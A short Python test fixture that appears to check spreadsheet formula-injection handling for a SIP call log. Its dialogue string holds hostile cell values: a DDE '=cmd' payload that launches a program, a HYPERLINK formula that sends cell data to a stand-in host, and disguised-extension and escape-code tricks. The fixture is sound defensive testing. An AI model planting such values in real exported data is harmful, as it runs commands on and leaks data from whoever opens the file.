"""A call whose texts attack spreadsheets, and what tests of all formats ask about it."""

DIALOGUE = """
-> INVITE sip:bob@example.com SIP/2.0
   From: "=cmd|' /C calc'!A0" <sip:+81312345678@example.com>;tag=-1
   To: "\u202etxt.\x1b[31mexe" <sip:%3D1+1@example.com>
   Call-ID: @SUM(1+1)*cmd
   User-Agent: =HYPERLINK("http://example.com?x="&A1,"click")
<- SIP/2.0 603 \uff1dcmd()
   Call-ID: @SUM(1+1)*cmd
   Server: a;=1+1\x00\x07_x0041_\ufffe
"""
FORMULA_STARTS = tuple("=+-@\t\r\n＝＋－＠")
"""What no cell may begin with, but for telephone numbers."""


def acts(cell: str) -> bool:
    """Tell whether a spreadsheet would take the text for a formula."""
    is_telephone_number = cell[:1] == "+" and cell[1:].isdecimal()
    return cell.lstrip().startswith(FORMULA_STARTS) and not is_telephone_number
